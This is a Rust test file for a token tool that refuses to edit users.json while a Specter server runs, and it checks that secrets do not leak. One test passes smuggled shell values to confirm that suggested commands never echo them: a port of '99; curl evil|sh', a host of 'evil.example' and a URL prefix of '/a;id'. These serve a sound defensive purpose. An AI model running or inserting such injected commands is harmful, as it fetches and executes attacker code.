//! The program beside a running Specter. A process that looks like one stands in for it; `tests/live` tries the real
//! one.

use std::fs::{self, File};
use std::os::unix::fs::{MetadataExt as _, symlink};
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::thread;
use std::time::Duration;

use tempfile::TempDir;

use crate::support::{Folder, MINIFIED_ADMIN, Output, PROCESSES, each, wait_for_one_who_waits};

/// The key of the process, which must not leak.
const ITS_KEY: &str = "the-key-in-the-environment-of-specter";

/// A process shown to the program. It ends when dropped.
struct Process {
    child: Child,
    /// Its scripts, kept as long as it runs.
    scripts: Option<TempDir>,
}

impl Process {
    /// With the command line of a Specter.
    fn specter(arguments: &[&str], variable: Option<(&str, &str)>) -> Self {
        // A script that waits for a line that never comes. The words after it are its arguments.
        let scripts = tempfile::tempdir().unwrap();
        fs::write(scripts.path().join("server"), "read line").unwrap();
        let mut command = Command::new("/bin/sh");
        command.arg0("specterd").arg("server").args(arguments).current_dir(scripts.path());
        command.env_clear().env("SECRET_KEY", ITS_KEY).env("HOME", "/nonexistent").env("SPECTER_API_ACTIVE", "True");
        command.envs(variable);
        let mut process = Process::start(&mut command);
        process.scripts = Some(scripts);
        process
    }

    /// With a file open as its standard output.
    fn holding(file: File) -> Self {
        Process::start(Command::new("/bin/sh").args(["-c", "read line"]).stdout(file))
    }

    fn start(command: &mut Command) -> Self {
        let process = Process { child: command.stdin(Stdio::piped()).spawn().unwrap(), scripts: None };
        // A process has no command line for a moment after its start.
        let id = process.child.id().to_string();
        let of_system = Path::new("/proc").join(&id);
        while fs::read(of_system.join("cmdline")).unwrap().is_empty() {
            thread::yield_now();
        }
        // A process that was killed may have left the same link behind.
        let _ = fs::remove_file(PROCESSES.join(&id));
        symlink(of_system, PROCESSES.join(id)).unwrap();
        process
    }

    /// The output with what differs from run to run replaced.
    fn masked(&self, output: Output) -> Output {
        let Output { code, stdout, stderr } = output;
        assert!(!stderr.contains(ITS_KEY) && !stdout.contains(ITS_KEY));
        Output { code, stdout, stderr: stderr.replace(&format!("process {}", self.child.id()), "process <PROCESS>") }
    }
}

impl Drop for Process {
    fn drop(&mut self) {
        let _ = fs::remove_file(PROCESSES.join(self.child.id().to_string()));
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A folder on which Specter has run before.
fn folder() -> Folder {
    let folder = Folder::with_users(MINIFIED_ADMIN);
    fs::write(folder.file("config.json"), "{}").unwrap();
    folder.create("old", &[]);
    folder
}

const CREATE: [&str; 5] = ["create", "-d", "new", "-l", "1h"];

#[test]
fn changes_are_refused_and_reading_goes_on() {
    let folder = folder();
    let specter = Process::specter(&["--port", "8000"], Some(("SPECTER_DATA_FOLDER", folder.path().to_str().unwrap())));
    let before = folder.files();
    let run = |arguments: &[&str]| specter.masked(folder.command(arguments).run());
    let cases = [&CREATE[..], &["revoke", "old"], &["revoke", "--all", "--yes"], &["revoke", "--expired"]];
    each(cases, |arguments| {
        run(arguments).expect(
            5,
            "",
            "error: could not change <DIR>/users.json: a Specter is running on it, which would not see the change, and would overwrite it (process <PROCESS>: specterd server --port 8000)\n\
             hint: stop Specter first, or let it make the change itself: --server http://127.0.0.1:8000; --even-if-running changes the file anyway\n",
        );
        let json = run(&[arguments, &["--json"]].concat());
        assert_eq!((json.code, &*json.stdout), (5, ""));
        assert!(json.stderr.starts_with("{\"error\":{\"reason\":\"running\","), "{json:?}");
    });
    // The file of --out goes with the token.
    let out = folder.file("out");
    assert_eq!(run(&[&CREATE[..], &["--out", out.to_str().unwrap()]].concat()).code, 5);
    assert_eq!(folder.files(), before);

    let note = "warning: a Specter is running on this folder (process <PROCESS>); it uses what it read at its start, so it may answer differently\n";
    run(&["list", "--ids"]).expect(0, "<ID>\n", note);
    run(&["revoke", "old", "--dry-run"]).expect(
        0,
        "",
        &format!("{note}would remove token <ID> \"old\" of user admin from <DIR>/users.json\n"),
    );
    assert!(run(&["show", "old"]).stderr.starts_with(note));
    assert_eq!(run(&["verify", "x"]).stderr, note);
    assert_eq!(folder.files(), before);

    drop(specter);
    folder.command(["revoke", "old"]).run().expect(
        0,
        "",
        "revoked token <ID> \"old\" of user admin from <DIR>/users.json\nSpecter refuses what was revoked from its next start on\n",
    );
}

/// It cannot contradict what it has not read yet.
#[test]
fn before_its_first_start_on_a_folder_nothing_is_said_to_readers() {
    let folder = folder();
    fs::remove_file(folder.file("config.json")).unwrap();
    let specter = Process::specter(&["--specter-data-folder", folder.path().to_str().unwrap()], None);
    specter.masked(folder.command(["list", "--ids"]).run()).expect(0, "<ID>\n", "");
    assert_eq!(folder.command(CREATE).run().code, 5);
}

#[test]
fn even_if_running_lifts_the_refusal_and_nothing_else() {
    let folder = folder();
    let specter = Process::specter(&["--specter-data-folder", folder.path().to_str().unwrap()], None);
    let run = |arguments: &[&str]| specter.masked(folder.command(arguments).run());
    let warning = "warning: the Specter that is running (process <PROCESS>) does not know of the change, and undoes it at its \
                   next save; restart it now\n";
    run(&["--even-if-running", "create", "-d", "new", "-l", "1h"]).expect(
        0,
        "<TOKEN>\n",
        &format!(
            "created token <ID> of user admin in <DIR>/users.json, expires <TIME>; key from SECRET_KEY\n{warning}"
        ),
    );
    run(&["revoke", "old", "--even-if-running", "-q"]).expect(0, "", warning);
    let output = run(&["revoke", "new", "--even-if-running", "--json"]);
    assert_eq!(output.json()["effect"], "unknown");
    assert_eq!(masked_first_line(&output), "removed token", "it is not revoked yet");
    assert!(!folder.users_text().contains("jwt_token_id"));
}

fn masked_first_line(output: &Output) -> &str {
    let line = output.stderr.lines().next().unwrap();
    &line[.."removed token".len()]
}

/// Each way in which a Specter is told its folder, or shows it.
#[test]
fn it_is_recognised_by_either_sign() {
    let folder = folder();
    let path = folder.path().to_str().unwrap();
    let links = Folder::empty();
    let link = links.file("link");
    symlink(folder.path(), &link).unwrap();
    let code = |process: Process, folder: &str| {
        let output = links.command(CREATE).env("SPECTER_DATA_FOLDER", folder).run();
        assert!(!output.stderr.contains(ITS_KEY));
        drop(process);
        output.code
    };
    let with_option = |folder: &str| Process::specter(&["--specter-data-folder", folder], None);
    assert_eq!(code(with_option(link.to_str().unwrap()), path), 5);
    assert_eq!(code(with_option(path), link.to_str().unwrap()), 5);
    let real_home = ("HOME", folder.path().parent().unwrap().to_str().unwrap());
    let name = folder.path().file_name().unwrap().to_str().unwrap();
    assert_eq!(code(Process::specter(&[&format!("--specter-data-folder=~/{name}")], Some(real_home)), path), 5);

    let log = folder.file("specter.log");
    fs::write(&log, "").unwrap();
    let for_writing = || File::options().append(true).open(&log).unwrap();
    assert_eq!(code(Process::holding(for_writing()), path), 5);
    assert_eq!(
        code(Process::start(Command::new("tail").arg("-f").arg(&log)), path),
        0,
        "who reads the log is no Specter"
    );
    // A folder whose users.json is a link to this one's.
    let other = Folder::empty();
    symlink(folder.users(), other.users()).unwrap();
    assert_eq!(code(with_option(path), other.path().to_str().unwrap()), 5);
    assert_eq!(code(with_option("/usr"), path), 4, "another Specter's folder; the description is taken by now");
}

/// Paths with `~`, given to a Specter and given to us.
#[test]
fn homes_are_taken_as_python_takes_them() {
    let folder = folder();
    let path = folder.path().to_str().unwrap();
    // Our own home, and from it the path to a folder elsewhere.
    let passwd = fs::read_to_string("/etc/passwd").unwrap();
    let id = fs::metadata(folder.path()).unwrap().uid().to_string();
    let mut users = passwd.lines().map(|line| line.split(':').collect::<Vec<_>>());
    let user = users.find(|fields| fields[2] == id).expect("this test runs as a user of passwd");
    let (name, home) = (user[0], user[5]);
    let named = format!("~{name}/{}{}", "../".repeat(home.split('/').count()), &path[1..]);
    let (named_none, none_at_home) = (format!("~{name}/none"), format!("{}/none", home.trim_end_matches('/')));
    let below = format!("~{path}");
    let cases = [
        (vec![], ("SPECTER_DATA_FOLDER", &*named)),
        (vec!["--specter-data-folder", &named], ("HOME", "/nonexistent")),
        (vec!["--specter-data-folder", &below], ("HOME", "")),
        (vec!["--specter-data-folder", &below], ("HOME", "//")),
    ];
    each(cases, |(arguments, variable)| {
        let specter = Process::specter(&arguments, Some(variable));
        let code = folder.command(CREATE).run().code;
        assert_eq!(code, 5, "{arguments:?} {variable:?}");
        drop(specter);
    });
    let cases = [
        ("~/none", Some(""), "/none"),
        ("~/none", Some("/home//"), "/home/none"),
        ("~//none", Some("/"), "//none"),
        (&named_none, Some("/home"), &none_at_home),
        (&named_none, None, &none_at_home),
        ("~/none", None, &none_at_home),
        ("~nobody-has-this-name/none", Some("/home"), "~nobody-has-this-name/none"),
    ];
    each(cases, |(told, home, found)| {
        each([true, false], |option| {
            let mut list = folder.command(["list"]).without("HOME");
            if let Some(home) = home {
                list = list.env("HOME", home);
            }
            let output = if option {
                list.command.args(["--data-folder", told]);
                list.run()
            } else {
                list.env("SPECTER_DATA_FOLDER", told).run()
            };
            assert!(output.stderr.contains(&format!(" {found}/users.json")), "{told} {home:?}: {output:?}");
        });
    });
}

/// The configuration that the option names has another folder.
#[test]
fn the_variable_beats_the_option_for_the_configuration() {
    let home = Folder::empty();
    let cases = [
        (".specter_dev", "SPECTER_CONFIG", 0),
        (".specter_dev", "SPECTER_OTHER", 5),
        (".specter_testing", "SPECTER_CONFIG", 5),
        (".specter_testing", "SPECTER_OTHER", 0),
    ];
    each(cases, |(name, variable, code)| {
        let data = home.file(name);
        let _ = fs::create_dir(&data);
        fs::write(data.join("users.json"), MINIFIED_ADMIN).unwrap();
        let scripts = tempfile::tempdir().unwrap();
        fs::write(scripts.path().join("server"), "read line").unwrap();
        let mut command = Command::new("/bin/sh");
        command.arg0("specterd").args(["server", "--config", "DevelopmentConfig"]).current_dir(scripts.path());
        command.env_clear().env("HOME", home.path()).env(variable, "TestConfig");
        let specter = Process::start(&mut command);
        let output = home.command(CREATE).env("SPECTER_DATA_FOLDER", &data).run();
        assert_eq!(output.code, code, "{name} {variable}: {output:?}");
        drop(specter);
    });
}

/// People type the address in a hint, so it must reach this Specter. Otherwise the hint names none.
#[test]
fn the_hint_names_no_address_but_one_of_this_machine() {
    let folder = folder();
    let path = folder.path().to_str().unwrap();
    let hint = |arguments: &[&str], variable: (&str, &str)| {
        let specter = Process::specter(&[&["--specter-data-folder", path], arguments].concat(), Some(variable));
        let output = folder.command(CREATE).run();
        drop(specter);
        assert_eq!(output.code, 5, "{output:?}");
        let (_, hint) = output.stderr.split_once("make the change itself: --server ").unwrap();
        hint.split_once("; --even-if-running").unwrap().0.to_owned()
    };
    let nothing = ("X", "");
    assert_eq!(hint(&["--host", "localhost", "--port", "80"], nothing), "http://localhost:80");
    let cases = [
        (vec!["--host", "evil.example"], nothing),
        (vec!["--port", "99; curl evil|sh"], nothing),
        (vec![], ("APP_URL_PREFIX", "/a;id")),
        (vec![], ("SPECTER_API_ACTIVE", "False")),
        (vec![], ("SPECTER_API_ACTIVE", "")),
    ];
    each(cases, |(arguments, variable)| {
        assert_eq!(hint(&arguments, variable), "URL", "{arguments:?} {variable:?}");
    });
}

/// A Specter that is started in the middle of a write may have read users.json before or after it.
#[test]
fn one_that_is_started_meanwhile_is_seen_after_the_write() {
    let folder = folder();
    let path = folder.path().to_str().unwrap();
    let cases = [
        (
            &CREATE[..],
            5,
            "<TOKEN>\n",
            "created token <ID> of user admin in <DIR>/users.json, expires <TIME>; key from SECRET_KEY\n",
        ),
        (&["revoke", "old"], 5, "", "removed token <ID> \"old\" of user admin from <DIR>/users.json\n"),
    ];
    each(cases, |(arguments, code, stdout, done)| {
        // While the folder is locked, the command has looked for a Specter and cannot write.
        let lock = File::open(folder.path()).unwrap();
        lock.lock().unwrap();
        let before = folder.files();
        let (output, specter) = thread::scope(|scope| {
            let output = scope.spawn(|| folder.command(arguments).run());
            wait_for_one_who_waits(folder.path());
            assert_eq!(folder.files(), before);
            let specter = Process::specter(&["--specter-data-folder", path], None);
            // Nothing can read users.json in less time.
            thread::sleep(Duration::from_millis(100));
            lock.unlock().unwrap();
            (output.join().unwrap(), specter)
        });
        let error = "error: written, but a Specter was started meanwhile, which may not know of the change, and may undo it (process \
                     <PROCESS>: specterd server --specter-data-folder <DIR>)\n\
                     hint: restart Specter now; then `specter-token list` shows the tokens\n";
        let mut output = specter.masked(output);
        output.stderr = output.stderr.replace(&format!("{path})"), "<DIR>)");
        output.expect(code, stdout, &format!("{done}{error}"));
        assert_ne!(folder.files(), before, "{arguments:?}");
    });
}

/// Seeing no Specter proves nothing in a container, or if others' processes are hidden.
#[test]
fn where_not_every_process_is_seen_nothing_is_promised() {
    const ACCEPTED: &str = "warning: could not check whether a Specter is running, which would not accept it, and would lose it at its next save\n";
    const REFUSED: &str = "warning: could not check whether a running Specter still accepts it\n";
    let in_container = tempfile::tempdir().unwrap();
    fs::create_dir_all(in_container.path().join("self/ns")).unwrap();
    fs::create_dir(in_container.path().join("1")).unwrap();
    fs::write(in_container.path().join("1/cmdline"), "init\0").unwrap();
    symlink("pid:[4026532000]", in_container.path().join("self/ns/pid")).unwrap();
    each([in_container.path(), Path::new("/nonexistent")], |processes| {
        let folder = folder();
        let run = |arguments: &[&str]| folder.command(arguments).env("SPECTER_TOKEN_TEST_PROC", processes).run();
        let created = "created token <ID> of user admin in <DIR>/users.json, expires <TIME>; key from SECRET_KEY\n";
        run(&CREATE).expect(0, "<TOKEN>\n", &format!("{created}{ACCEPTED}"));
        let removed = "removed token <ID> \"old\" of user admin from <DIR>/users.json\n";
        run(&["revoke", "old"]).expect(0, "", &format!("{removed}{REFUSED}"));
        run(&["revoke", "-q", "new"]).expect(0, "", REFUSED);
        assert_eq!(run(&["create", "--json", "-d", "x", "-l", "1h"]).json()["effect"], "unknown");
    });
}
